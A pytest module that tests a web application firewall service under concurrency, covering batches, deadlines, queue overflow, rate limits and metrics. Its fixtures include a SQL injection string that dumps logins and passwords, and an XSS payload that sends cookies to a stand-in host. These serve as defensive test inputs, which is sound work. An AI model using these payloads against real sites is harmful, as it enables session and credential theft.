"""The shipped model under concurrency: right answers, batches, deadlines, limits, queue and metrics.

Nothing here measures wall-clock time: what is asserted are answers, counts, order and outcomes.
"""

from __future__ import annotations

import asyncio
import threading
from collections.abc import AsyncIterator
from concurrent.futures import ThreadPoolExecutor

import pytest

from vedette.config import RateLimitSettings, Settings
from vedette.errors import NotReady, Overloaded
from vedette.inference.async_waf_service import AsyncWAFService
from vedette.inference.rate_limiter import RequestLimits
from vedette.integration.waf_service import WAFService
from vedette.verdict import Action, Degraded, Verdict

SQLI = "1' UNION SELECT login, password FROM users-- -"
XSS = "<script>document.location='//evil.test/?c='+document.cookie</script>"
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
QUIET = {"event_log": {"enabled": False}, "timeout": 60.0, "drain_timeout": 60.0}


def settings_with(**inference: object) -> Settings:
    stage = {"async": {"timeout": 60.0, "max_workers": 2}, **inference}
    return Settings.model_validate({"waf_service": QUIET, "inference": stage})


@pytest.fixture
async def service() -> AsyncIterator[AsyncWAFService]:
    async with AsyncWAFService(settings=settings_with()) as started:
        yield started


def harmless(i: int) -> dict[str, object]:
    return {"method": "GET", "path": f"/products/{i}", "query_params": {"page": i, "sort": "price"}, "headers": {}}


def hostile(i: int) -> dict[str, object]:
    return {"method": "GET", "path": "/products", "query_params": {"id": f"{i}{SQLI}"}, "headers": {}}


def hostile_and_long(i: int) -> dict[str, object]:
    """More than is read on the event loop."""
    return {**hostile(i), "query_params": {"id": f"{i}{SQLI}", **{f"a{n}": f"{i}{XSS}{n}" for n in range(24)}}}


def mixed(count: int) -> list[dict[str, object]]:
    return [hostile(i) if i % 2 else harmless(i) for i in range(count)]


def right(verdicts: list[Verdict]) -> bool:
    return all(
        verdict.degraded is None
        and verdict.is_anomaly is bool(i % 2)
        and verdict.action is (Action.BLOCK if i % 2 else Action.ALLOW)
        for i, verdict in enumerate(verdicts)
    )


# -- concurrency ---------------------------------------------------------------------------------------------------


async def test_400_checks_at_once_each_get_their_own_right_answer(service: AsyncWAFService) -> None:
    verdicts = await asyncio.gather(*(service.check_request_async(**item) for item in mixed(400)))  # type: ignore[arg-type]
    assert right(verdicts)
    assert len({verdict.request_id for verdict in verdicts}) == 400
    assert all(verdict.findings[0].name == "id" for verdict in verdicts[1::2])
    assert {verdict.attack_class for verdict in verdicts[1::2]} == {"sqli"}


async def test_the_loop_goes_on_while_the_model_runs(service: AsyncWAFService) -> None:
    ticks = 0

    async def tick() -> None:
        nonlocal ticks
        while True:
            ticks += 1
            await asyncio.sleep(0)

    ticking = asyncio.create_task(tick())
    body = "text=" + "&text=".join(f"it's+{i}+<i>{i}</i>+;+select+{i}" for i in range(2000))
    verdict = await service.check_request_async("POST", "/", headers=FORM, body=body)
    ticking.cancel()
    assert verdict.is_anomaly is not None
    assert ticks > 20  # a blocked loop would have run it once or twice


async def test_large_and_small_requests_side_by_side(service: AsyncWAFService) -> None:
    large = {"method": "POST", "path": "/", "headers": FORM, "body": "pad=" + "A" * 100_000 + "&id=" + SQLI}
    verdicts = await asyncio.gather(
        *(service.check_request_async(**item) for item in [large] * 4 + mixed(100))  # type: ignore[arg-type]
    )
    assert all(verdict.is_anomaly and verdict.findings[0].name == "id" for verdict in verdicts[:4])
    assert right(verdicts[4:])


def test_threads_share_the_synchronous_service() -> None:
    with WAFService(settings=settings_with()) as sync, ThreadPoolExecutor(8) as pool:
        verdicts = list(pool.map(lambda item: sync.check_request(**item), mixed(200)))  # type: ignore[arg-type]
    assert right(verdicts)


async def test_both_services_give_the_same_verdict(service: AsyncWAFService) -> None:
    with WAFService(settings=settings_with()) as sync:
        for item in [*mixed(6), {"method": "GET", "path": "/", "query_params": {"q": XSS}}]:
            one = sync.check_request(**item)  # type: ignore[arg-type]
            other = await service.check_request_async(**item)  # type: ignore[arg-type]
            assert (one.attack_class, one.action, one.model_version) == (
                other.attack_class,
                other.action,
                other.model_version,
            )
            assert one.anomaly_score == pytest.approx(other.anomaly_score, abs=0.02)
            assert [finding.span for finding in one.findings] == [finding.span for finding in other.findings]


# -- batches -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("size", [0, 1, 32, 500])
async def test_a_batch_answers_in_order(service: AsyncWAFService, size: int) -> None:
    verdicts = await service.check_batch_async(mixed(size))
    assert len(verdicts) == size
    assert right(verdicts)


async def test_what_waits_together_runs_together(service: AsyncWAFService) -> None:
    await asyncio.gather(*(service.check_request_async(**hostile(i * 1000 + 7)) for i in range(64)))  # type: ignore[arg-type]
    stats = service.queue_stats()
    assert stats is not None
    assert stats.completed == stats.submitted <= 64
    assert stats.batches <= 4


async def test_a_score_does_not_hang_on_the_neighbours_in_the_batch(service: AsyncWAFService) -> None:
    alone = await service.check_request_async(**hostile(3))  # type: ignore[arg-type]
    async with AsyncWAFService(settings=settings_with()) as other:
        among = (await other.check_batch_async([{**harmless(1), "path": "/?q=%3Cb%3E" + "a" * 900}, hostile(3)]))[1]
    assert among.anomaly_score == pytest.approx(alone.anomaly_score, abs=0.02)
    assert among.is_anomaly


# -- deadlines -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("fail_mode", "action"), [("open", Action.ALLOW), ("closed", Action.BLOCK)])
async def test_an_impossible_deadline_is_a_degraded_verdict(fail_mode: str, action: Action) -> None:
    settings = Settings.model_validate({"waf_service": {**QUIET, "fail_mode": fail_mode}})
    async with AsyncWAFService(settings=settings) as service:
        verdict = await service.check_request_async(**hostile(1), deadline_s=1e-6)  # type: ignore[arg-type]
        assert verdict.degraded is Degraded.TIMED_OUT
        assert (verdict.anomaly_score, verdict.is_anomaly, verdict.action) == (None, None, action)
        assert (await service.check_request_async(**hostile(1))).is_anomaly  # type: ignore[arg-type]
        assert service.metrics.to_dict()["degraded"] == {"timed_out": 1}


async def test_expired_work_never_reaches_the_model(service: AsyncWAFService) -> None:
    await asyncio.gather(
        *(service.check_request_async(**hostile(i), deadline_s=1e-6) for i in range(50))  # type: ignore[arg-type]
    )
    stats = service.queue_stats()
    assert stats is not None
    assert stats.batches == 0


# -- queue ---------------------------------------------------------------------------------------------------------


async def test_an_overflowing_queue_refuses_at_once_and_serves_the_rest() -> None:
    settings = settings_with(queue={"max_size": 8})
    async with AsyncWAFService(settings=settings) as service:
        answers = await asyncio.gather(
            *(service.check_request_async(**hostile_and_long(i)) for i in range(100)),  # type: ignore[arg-type]
            return_exceptions=True,
        )
        refused = [answer for answer in answers if isinstance(answer, Overloaded)]
        served = [answer for answer in answers if isinstance(answer, Verdict)]
        assert len(refused) + len(served) == 100
        assert len(served) >= 8
        assert refused
        assert all(verdict.is_anomaly for verdict in served)
        assert all(error.retry_after_s > 0 for error in refused)
        assert (await service.check_request_async(**hostile_and_long(101))).is_anomaly  # type: ignore[arg-type]
        assert service.metrics.to_dict()["requests"]["by_outcome"]["overloaded"] == len(refused)


async def test_closing_answers_what_is_under_way() -> None:
    service = AsyncWAFService(settings=settings_with())
    await service.start()
    waiting = [asyncio.create_task(service.check_request_async(**hostile_and_long(i))) for i in range(50)]  # type: ignore[arg-type]
    await asyncio.sleep(0)
    await service.close()
    assert all(verdict.is_anomaly for verdict in await asyncio.gather(*waiting))
    with pytest.raises(NotReady):
        await service.check_request_async(**harmless(1))  # type: ignore[arg-type]


async def test_no_thread_is_left_behind() -> None:
    async with AsyncWAFService(settings=settings_with()) as service:
        await service.check_request_async(**hostile(1))  # type: ignore[arg-type]
        assert any(thread.name.startswith("vedette") for thread in threading.enumerate())
    assert not any(thread.name.startswith("vedette") for thread in threading.enumerate())


# -- limiter -------------------------------------------------------------------------------------------------------


async def test_the_limiter_is_exact_for_callers_at_once(service: AsyncWAFService) -> None:
    now = 1000.0
    limits = RequestLimits(RateLimitSettings(max_requests_per_second=100, per_ip=30), clock=lambda: now)

    async def call(client: int) -> bool:
        decision = limits.hit(f"192.0.2.{client}")
        assert decision is not None
        if not decision.allowed:
            assert decision.retry_after_s > 0
            return False
        return (await service.check_request_async(**hostile(client))).is_anomaly is True  # type: ignore[arg-type]

    answers = await asyncio.gather(*(call(i % 5) for i in range(300)))
    assert sum(answers) == 100  # five clients of 30 each, and 100 for all


# -- metrics -------------------------------------------------------------------------------------------------------


async def test_metrics_tell_what_happened(service: AsyncWAFService) -> None:
    await service.check_batch_async(mixed(40))
    await service.check_batch_async(mixed(40))
    seen = service.metrics.to_dict()
    assert seen["requests"]["by_outcome"] == {"allow": 40, "block": 40}
    assert seen["anomalies"] == {"total": 40, "by_class": {"sqli": 40}}
    assert seen["score_memory"]["hits"] >= 20
    assert 0 < seen["score_memory"]["hit_rate"] < 1
    assert seen["score_memory"]["bytes"] > 0
    assert seen["batch_size"]["max"] >= 1
    assert seen["queue"] == {"size": 0, "wait_ms": seen["queue"]["wait_ms"]}
    assert 0 < seen["processing_time_ms"]["p50"] <= seen["processing_time_ms"]["p99"]
    text = service.metrics.prometheus().decode()
    assert 'vedette_requests_total{outcome="block"} 40.0' in text
    assert 'vedette_anomalies_total{attack_class="sqli"} 40.0' in text
    assert "vedette_queue_wait_seconds_count" in text
